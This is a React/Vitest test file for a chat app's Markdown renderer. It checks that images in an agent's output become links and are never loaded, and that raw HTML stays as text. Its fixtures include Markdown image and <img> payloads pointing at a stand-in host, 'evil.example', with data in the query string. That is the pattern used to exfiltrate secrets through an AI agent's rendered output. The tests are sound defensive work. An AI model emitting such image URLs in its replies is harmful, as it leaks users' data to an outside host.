// @vitest-environment happy-dom
import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { MarkdownText } from '../../../pwa/src/chat/MarkdownText.tsx';

describe("an agent's Markdown", () => {
  it('shows an image as a link to it, never loading it', () => {
    const { container } = render(
      <MarkdownText text={'See ![the secret](https://evil.example/p.png?d=abc) and ![](/x.png)'} />,
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
    const links = [...container.querySelectorAll('a')].map((link) => ({
      href: link.getAttribute('href'),
      text: link.textContent,
      target: link.getAttribute('target'),
      rel: link.getAttribute('rel'),
    }));
    expect(links).toEqual([
      {
        href: 'https://evil.example/p.png?d=abc',
        text: 'the secret',
        target: '_blank',
        rel: 'noopener noreferrer',
      },
      { href: '/x.png', text: '/x.png', target: '_blank', rel: 'noopener noreferrer' },
    ]);
  });

  it('keeps raw HTML as text', () => {
    const { container } = render(<MarkdownText text={'<img src="https://evil.example/x">'} />);
    expect(container.querySelectorAll('img')).toHaveLength(0);
  });
});
